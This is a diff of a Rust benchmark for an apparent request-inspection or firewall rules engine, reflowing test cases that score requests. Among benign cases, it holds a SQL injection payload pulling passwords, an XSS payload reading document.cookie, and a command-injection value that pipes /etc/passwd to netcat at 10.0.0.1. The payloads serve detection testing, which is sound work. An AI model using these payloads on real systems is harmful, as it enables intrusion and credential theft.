@@ -18,8 +18,20 @@ struct Case {
     body: Vec<u8>,
 }
 
-fn case(name: &'static str, method: &'static str, uri: &str, content_type: &'static str, body: &str) -> Case {
-    Case { name, method, uri: uri.to_owned(), content_type, body: body.as_bytes().to_vec() }
+fn case(
+    name: &'static str,
+    method: &'static str,
+    uri: &str,
+    content_type: &'static str,
+    body: &str,
+) -> Case {
+    Case {
+        name,
+        method,
+        uri: uri.to_owned(),
+        content_type,
+        body: body.as_bytes().to_vec(),
+    }
 }
 
 fn cases() -> Vec<Case> {
@@ -27,9 +39,21 @@ fn cases() -> Vec<Case> {
     let item = r#"{"id":12345,"title":"A plain title of a thing","tags":["red","blue"],"description":"Some ordinary text of medium length, with commas and a full stop.","price":12.5},"#;
     let large = format!("[{}{{}}]", item.repeat(64 * 1024 / item.len()));
     vec![
-        case("get", "GET", "/api/v1/orders?status=open&page=2&sort=-created", "", ""),
+        case(
+            "get",
+            "GET",
+            "/api/v1/orders?status=open&page=2&sort=-created",
+            "",
+            "",
+        ),
         case("json", "POST", "/api/v1/orders", "application/json", order),
-        case("json_64k", "POST", "/api/v1/import", "application/json", &large),
+        case(
+            "json_64k",
+            "POST",
+            "/api/v1/import",
+            "application/json",
+            &large,
+        ),
         case(
             "form",
             "POST",
@@ -37,9 +61,27 @@ fn cases() -> Vec<Case> {
             "application/x-www-form-urlencoded",
             "username=ada%40example.com&password=correct+horse&remember=on&next=%2Faccount",
         ),
-        case("sqli", "GET", "/api/v1/orders?id=1%27%20or%20%271%27=%271%27%20union%20select%20password%20from%20users--", "", ""),
-        case("xss", "POST", "/comment", "application/x-www-form-urlencoded", "text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
-        case("rce", "POST", "/api/v1/ping", "application/json", r#"{"host":"127.0.0.1; cat /etc/passwd | nc 10.0.0.1 4444"}"#),
+        case(
+            "sqli",
+            "GET",
+            "/api/v1/orders?id=1%27%20or%20%271%27=%271%27%20union%20select%20password%20from%20users--",
+            "",
+            "",
+        ),
+        case(
+            "xss",
+            "POST",
+            "/comment",
+            "application/x-www-form-urlencoded",
+            "text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        ),
+        case(
+            "rce",
+            "POST",
+            "/api/v1/ping",
+            "application/json",
+            r#"{"host":"127.0.0.1; cat /etc/passwd | nc 10.0.0.1 4444"}"#,
+        ),
     ]
 }
 
@@ -61,7 +103,8 @@ fn headers(case: &Case) -> Headers {
     headers
 }
 
-const ANSWER: &[u8] = br#"{"orders":[{"id":"9f2c1a","status":"open","total":119.3}],"page":2,"pages":7}"#;
+const ANSWER: &[u8] =
+    br#"{"orders":[{"id":"9f2c1a","status":"open","total":119.3}],"page":2,"pages":7}"#;
 
 fn inspect(environment: Environment<'_>, case: &Case, headers: &[(&[u8], &[u8])]) -> i64 {
     let request = Request {
@@ -79,7 +122,12 @@ fn inspect(environment: Environment<'_>, case: &Case, headers: &[(&[u8], &[u8])]
     inspection.request_headers(environment);
     inspection.request_body(environment, &case.body, false);
     let head: [(&[u8], &[u8]); 1] = [(b"content-type", b"application/json")];
-    let response = Response { status: 200, protocol: b"HTTP/1.1", reason: b"OK", headers: &head };
+    let response = Response {
+        status: 200,
+        protocol: b"HTTP/1.1",
+        reason: b"OK",
+        headers: &head,
+    };
     inspection.response_headers(environment, &response);
     inspection.response_body(environment, Some(ANSWER));
     inspection.finish(environment);
@@ -106,7 +154,10 @@ fn bench(criterion: &mut Criterion) {
     let mut group = criterion.benchmark_group("rules");
     for case in cases() {
         let owned = headers(&case);
-        let borrowed: Vec<(&[u8], &[u8])> = owned.iter().map(|(name, value)| (*name, value.as_slice())).collect();
+        let borrowed: Vec<(&[u8], &[u8])> = owned
+            .iter()
+            .map(|(name, value)| (*name, value.as_slice()))
+            .collect();
         let score = inspect(environment, &case, &borrowed);
         eprintln!("{}: score {score}", case.name);
         group.throughput(Throughput::Elements(1));
